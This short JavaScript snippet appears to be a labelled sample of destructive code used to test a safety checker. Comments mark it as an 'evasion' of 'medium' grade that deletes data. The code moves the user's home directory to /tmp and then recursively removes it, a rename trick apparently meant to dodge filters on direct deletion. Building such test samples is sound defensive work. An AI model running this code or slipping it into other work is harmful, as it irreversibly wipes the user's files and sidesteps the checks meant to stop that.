// evasion: fs.promises.rename moves $HOME to /tmp, then the moved copy is removed
// grade: medium; does: delete
'use strict';
const fs = require('fs');
fs.promises.rename(process.env.HOME, '/tmp/old-home').then(() => fs.promises.rm('/tmp/old-home', { recursive: true }));
